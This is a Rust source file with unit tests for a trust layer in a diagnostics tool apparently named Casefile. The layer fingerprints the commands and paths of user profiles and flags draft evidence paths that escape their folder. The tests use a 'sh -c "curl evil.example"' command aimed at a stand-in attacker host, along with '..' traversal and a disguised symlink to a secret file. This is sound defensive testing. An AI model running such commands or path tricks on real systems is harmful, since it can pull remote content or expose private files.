//! What the user must agree to before Casefile acts on files written by someone else: a user
//! profile's commands and paths, and a draft's evidence paths outside its own folder.
//!
//! **Profiles are code.** A profile's `commands` run as the collecting user (root or SYSTEM on a
//! fleet) and its `paths` can name any file. Built-in profiles ship inside the binary and are
//! trusted. A user profile that runs a command or reads a path is used only once the user has
//! trusted it (`casefile profiles trust ID`, or the app's confirmation): that records a
//! fingerprint of exactly those commands and paths in `trusted-profiles.toml` beside
//! `config.toml`. A profile edited afterwards (another command, another path) is untrusted
//! again. A user profile that only states policy (tiers, hours, fields) needs no trust.
//!
//! **Drafts from someone else.** A draft's evidence items name files to attach. Paths inside
//! the draft's own folder (and, for screenshots, the draft's screenshots folder) are taken as
//! they are; any other path (absolute, or escaping with `..` or a link) is attached only when
//! the user confirms it: `--trust-paths` on the CLI, a native confirmation listing the paths in
//! the app (which also accepts the files picked or dropped in it). Screenshot items are not
//! exempt.

use std::collections::BTreeMap;
use std::path::{Component, Path, PathBuf};

use sha2::Digest as _;

use crate::profile::schema::Profile;
use crate::profile::{LoadedProfile, Origin};
use crate::request::Request;

/// The file beside `config.toml` that records the trusted user profiles.
pub const TRUST_FILE_NAME: &str = "trusted-profiles.toml";

/// What a profile can do on the machine: the commands it runs and the paths it reads, each
/// with its OS, as the user is shown them.
#[derive(Debug, Clone, Default, PartialEq, Eq, serde::Serialize)]
pub struct ProfileReach {
    /// `linux: journalctl -u jcagent`, one per command.
    pub commands: Vec<String>,
    /// `linux: /var/log/jcagent.log`, one per path (evidence, version and config files).
    pub paths: Vec<String>,
}

impl ProfileReach {
    /// Whether the profile runs nothing and reads nothing.
    pub fn is_empty(&self) -> bool {
        self.commands.is_empty() && self.paths.is_empty()
    }

    /// The commands and paths as an indented list, for a message or a dialog.
    pub fn listing(&self) -> String {
        let mut text = String::new();
        if !self.commands.is_empty() {
            text.push_str("commands it runs:\n");
            for command in &self.commands {
                text.push_str(&format!("  {command}\n"));
            }
        }
        if !self.paths.is_empty() {
            text.push_str("files and folders it reads:\n");
            for path in &self.paths {
                text.push_str(&format!("  {path}\n"));
            }
        }
        text
    }

    /// A hash of exactly these commands and paths.
    pub fn fingerprint(&self) -> String {
        let mut hash = sha2::Sha256::new();
        hash.update(b"casefile-profile-trust-v1");
        for (tag, list) in [(b'c', &self.commands), (b'p', &self.paths)] {
            for item in list {
                hash.update([0, tag]);
                hash.update(item.as_bytes());
            }
        }
        hash.finalize()
            .iter()
            .map(|byte| format!("{byte:02x}"))
            .collect()
    }
}

/// The commands `profile` runs and the paths it reads.
pub fn profile_reach(profile: &Profile) -> ProfileReach {
    let mut reach = ProfileReach::default();
    for evidence in &profile.evidence {
        for source in &evidence.sources {
            let os = format!("{:?}", source.os).to_ascii_lowercase();
            for command in &source.commands {
                let argv: Vec<String> = command
                    .argv
                    .iter()
                    .map(|arg| {
                        if arg.is_empty() || arg.contains([' ', '"', '\'']) {
                            format!("{arg:?}")
                        } else {
                            arg.clone()
                        }
                    })
                    .collect();
                reach.commands.push(format!("{os}: {}", argv.join(" ")));
            }
            for path in &source.paths {
                reach.paths.push(format!("{os}: {path}"));
            }
        }
    }
    for file in &profile.snapshot.version_files {
        let os = format!("{:?}", file.os).to_ascii_lowercase();
        reach.paths.push(format!("{os}: {}", file.path));
    }
    for files in &profile.snapshot.config_files {
        let os = format!("{:?}", files.os).to_ascii_lowercase();
        for path in &files.paths {
            reach.paths.push(format!("{os}: {path}"));
        }
    }
    reach
}

/// Why a profile may not be used yet, or the trust store could not be read or written.
#[derive(Debug, thiserror::Error)]
pub enum TrustError {
    /// A user profile that runs commands or reads paths has not been trusted, or has changed
    /// since.
    #[error(
        "profile {id} ({file}) is not trusted{changed}: a profile's commands run as you (as root or SYSTEM on a fleet) and it reads the files it names, so use it only if you trust whoever wrote it.\n{listing}Trust it with `casefile profiles trust {id}` (or confirm it in the app), then run this again.",
        changed = if *.changed { " since it was changed" } else { " yet" },
        listing = .reach.listing()
    )]
    Untrusted {
        /// The profile id.
        id: String,
        /// The profile's file.
        file: String,
        /// What it runs and reads.
        reach: ProfileReach,
        /// It was trusted before, with other commands or paths.
        changed: bool,
    },
    /// The trust file cannot be read or written.
    #[error("{path}: {message}")]
    Store {
        /// The file.
        path: PathBuf,
        /// What is wrong and how to fix it.
        message: String,
    },
}

impl TrustError {
    /// A stable code: `profile_untrusted` or `io`.
    pub fn code(&self) -> &'static str {
        match self {
            TrustError::Untrusted { .. } => "profile_untrusted",
            TrustError::Store { .. } => "io",
        }
    }
}

/// One trusted profile.
#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
pub struct TrustedProfile {
    /// The fingerprint of the commands and paths trusted ([`ProfileReach::fingerprint`]).
    pub fingerprint: String,
    /// The file it was read from then (for people reading the store).
    #[serde(default)]
    pub file: String,
}

/// `trusted-profiles.toml`: the user profiles the user has trusted, by id.
#[derive(Debug, Clone, Default, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
pub struct TrustStore {
    /// Must be 1.
    #[serde(default = "store_version")]
    pub schema_version: u32,
    /// Profile id to what was trusted.
    #[serde(default)]
    pub profiles: BTreeMap<String, TrustedProfile>,
}

fn store_version() -> u32 {
    1
}

impl TrustStore {
    /// The trust file for the configuration file `config_file`.
    pub fn path_for(config_file: &Path) -> PathBuf {
        config_file.with_file_name(TRUST_FILE_NAME)
    }

    /// Reads the store beside `config_file`; a missing file trusts nothing.
    pub fn load(config_file: &Path) -> Result<TrustStore, TrustError> {
        let path = Self::path_for(config_file);
        let text = match std::fs::read_to_string(&path) {
            Ok(text) => text,
            Err(error) if error.kind() == std::io::ErrorKind::NotFound => {
                return Ok(TrustStore::default());
            }
            Err(error) => {
                return Err(TrustError::Store {
                    path,
                    message: format!("cannot read the trusted profiles: {error}"),
                });
            }
        };
        toml::from_str(&text).map_err(|error| TrustError::Store {
            path,
            message: format!(
                "{}; delete the file and trust your profiles again (`casefile profiles trust ID`)",
                error.message().trim()
            ),
        })
    }

    fn save(&self, config_file: &Path) -> Result<(), TrustError> {
        let path = Self::path_for(config_file);
        let error = |message: String| TrustError::Store {
            path: path.clone(),
            message,
        };
        let body = toml::to_string(self).map_err(|e| error(e.to_string()))?;
        let text = format!(
            "# User profiles you trust to run their commands and read their paths (fingerprints).\n# Written by `casefile profiles trust`; an edited profile must be trusted again.\n{body}"
        );
        if let Some(folder) = path.parent().filter(|p| !p.as_os_str().is_empty()) {
            fs_err::create_dir_all(folder).map_err(|e| error(e.to_string()))?;
        }
        crate::draft::write_atomically(&path, text.as_bytes()).map_err(|e| error(e.to_string()))
    }

    /// Whether `loaded` may run: built in, reaching nothing, or trusted as it is now.
    pub fn check(&self, loaded: &LoadedProfile) -> Result<(), TrustError> {
        let Origin::File(file) = &loaded.origin else {
            return Ok(());
        };
        let reach = profile_reach(&loaded.profile);
        if reach.is_empty() {
            return Ok(());
        }
        let id = &loaded.profile.id;
        match self.profiles.get(id) {
            Some(trusted) if trusted.fingerprint == reach.fingerprint() => Ok(()),
            other => Err(TrustError::Untrusted {
                id: id.clone(),
                file: file.clone(),
                reach,
                changed: other.is_some(),
            }),
        }
    }
}

/// Checks that `loaded` may run, with the store beside `config_file`.
pub fn check_profile(config_file: &Path, loaded: &LoadedProfile) -> Result<(), TrustError> {
    TrustStore::load(config_file)?.check(loaded)
}

/// Records that the user trusts `loaded` as it is now (its commands and paths), in the store
/// beside `config_file`; answers what was trusted. A built-in profile needs nothing recorded.
pub fn trust_profile(
    config_file: &Path,
    loaded: &LoadedProfile,
) -> Result<ProfileReach, TrustError> {
    let reach = profile_reach(&loaded.profile);
    let Origin::File(file) = &loaded.origin else {
        return Ok(reach);
    };
    let mut store = TrustStore::load(config_file)?;
    store.profiles.insert(
        loaded.profile.id.clone(),
        TrustedProfile {
            fingerprint: reach.fingerprint(),
            file: file.clone(),
        },
    );
    store.save(config_file)?;
    Ok(reach)
}

/// The evidence paths of `request` (a draft in `draft_dir`) that lie outside the usual places
/// and so need the user's confirmation: every path that does not resolve (links followed,
/// `..` applied) inside `draft_dir` or one of `also_allowed` (e.g. the draft's screenshots
/// folder). Answered as the draft writes them, in order, without repeats.
pub fn draft_paths_needing_trust(
    request: &Request,
    draft_dir: &Path,
    also_allowed: &[&Path],
) -> Vec<String> {
    let roots: Vec<PathBuf> = std::iter::once(draft_dir)
        .chain(also_allowed.iter().copied())
        .map(resolve)
        .collect();
    let mut outside: Vec<String> = Vec::new();
    for item in &request.evidence {
        let written = item.path.trim();
        if written.is_empty() {
            continue;
        }
        let path = resolve(&draft_dir.join(written));
        if !roots.iter().any(|root| path.starts_with(root))
            && !outside.iter().any(|seen| seen == written)
        {
            outside.push(written.to_owned());
        }
    }
    outside
}

/// `path` made absolute with its links resolved when it exists; else lexically, `..` applied.
pub fn resolve(path: &Path) -> PathBuf {
    if let Ok(real) = std::fs::canonicalize(path) {
        return real;
    }
    let absolute = if path.is_absolute() {
        path.to_owned()
    } else {
        std::env::current_dir()
            .map(|dir| dir.join(path))
            .unwrap_or_else(|_| path.to_owned())
    };
    // The deepest existing ancestor resolved, the rest applied lexically.
    let mut clean = PathBuf::new();
    for component in absolute.components() {
        match component {
            Component::ParentDir => {
                clean.pop();
            }
            Component::CurDir => {}
            other => {
                clean.push(other);
                if let Ok(real) = std::fs::canonicalize(&clean) {
                    clean = real;
                }
            }
        }
    }
    clean
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::profile::Catalog;
    use crate::request::EvidenceItem;

    const GENERIC: &str = include_str!("profile/builtin/generic.toml");

    /// A user profile `acme`: the generic one (it runs `wevtutil` and reads `/var/log`), with
    /// `edit` applied to its text.
    fn user_catalog(folder: &Path, edit: impl Fn(String) -> String) -> Catalog {
        let profiles = folder.join("profiles");
        fs_err::create_dir_all(&profiles).expect("profiles");
        let source = edit(GENERIC.replacen("id = \"generic\"", "id = \"acme\"", 1));
        fs_err::write(profiles.join("acme.toml"), source).expect("write");
        let catalog = Catalog::load(Some(&profiles));
        assert!(catalog.problems.is_empty(), "{:?}", catalog.problems);
        catalog
    }

    #[test]
    fn a_user_profile_that_runs_commands_needs_trust_and_again_after_an_edit() {
        let folder = tempfile::tempdir().expect("temp");
        let config = folder.path().join("config.toml");
        let catalog = user_catalog(folder.path(), |text| text);
        check_profile(&config, catalog.get("jumpcloud").expect("built in"))
            .expect("built-in profiles are trusted");
        let acme = catalog.get("acme").expect("user");
        let reach = profile_reach(&acme.profile);
        assert!(
            reach
                .commands
                .iter()
                .any(|c| c.starts_with("windows: wevtutil qe System"))
        );
        let error = check_profile(&config, acme).expect_err("untrusted");
        let message = error.to_string();
        assert_eq!(error.code(), "profile_untrusted");
        assert!(
            message.contains("casefile profiles trust acme"),
            "{message}"
        );
        assert!(message.contains("not trusted yet"), "{message}");
        for line in reach.commands.iter().chain(&reach.paths) {
            assert!(message.contains(line.as_str()), "{line} not in {message}");
        }
        trust_profile(&config, acme).expect("trust");
        check_profile(&config, acme).expect("trusted now");
        // Someone edits the file: another command; trusted no more.
        let edited = user_catalog(folder.path(), |text| {
            text.replace(
                "\"wevtutil\", \"qe\", \"System\"",
                "\"sh\", \"-c\", \"curl evil.example\"",
            )
        });
        let error = check_profile(&config, edited.get("acme").expect("user")).expect_err("changed");
        let message = error.to_string();
        assert!(message.contains("since it was changed"), "{message}");
        assert!(
            message.contains("windows: sh -c \"curl evil.example\""),
            "{message}"
        );
    }

    fn draft(paths: &[(&str, &str)]) -> Request {
        Request {
            evidence: paths
                .iter()
                .map(|(id, path)| EvidenceItem {
                    evidence_id: (*id).to_owned(),
                    path: (*path).to_owned(),
                    note: String::new(),
                })
                .collect(),
            ..Request::default()
        }
    }

    #[test]
    fn a_drafts_paths_outside_its_folder_need_trust_and_screenshots_are_not_exempt() {
        let folder = tempfile::tempdir().expect("temp");
        let drafts = folder.path().join("drafts");
        let shots = folder.path().join("screenshots").join("CF-0000-0000");
        fs_err::create_dir_all(drafts.join("logs")).expect("logs");
        fs_err::create_dir_all(&shots).expect("shots");
        fs_err::write(drafts.join("logs/app.log"), "x").expect("log");
        fs_err::write(shots.join("a.png"), "x").expect("shot");
        let secret = folder.path().join("secret.json");
        fs_err::write(&secret, "{}").expect("secret");
        let secret_text = secret.display().to_string();
        let shot_text = shots.join("a.png").display().to_string();
        let request = draft(&[
            ("", "logs/app.log"),
            ("", "../secret.json"),
            ("", &secret_text),
            ("screenshot", &secret_text),
            ("screenshot", &shot_text),
            ("", "logs/../../drafts/logs/app.log"),
        ]);
        assert_eq!(
            draft_paths_needing_trust(&request, &drafts, &[&shots]),
            vec!["../secret.json".to_owned(), secret_text.clone()]
        );
        // Without the screenshots folder allowed, the screenshot is outside too.
        assert!(draft_paths_needing_trust(&request, &drafts, &[]).contains(&shot_text));
        // A link inside the folder that leads out is outside.
        #[cfg(unix)]
        {
            std::os::unix::fs::symlink(&secret, drafts.join("logs/innocent.log")).expect("link");
            let linked = draft(&[("", "logs/innocent.log")]);
            assert_eq!(
                draft_paths_needing_trust(&linked, &drafts, &[]),
                vec!["logs/innocent.log".to_owned()]
            );
        }
    }
}
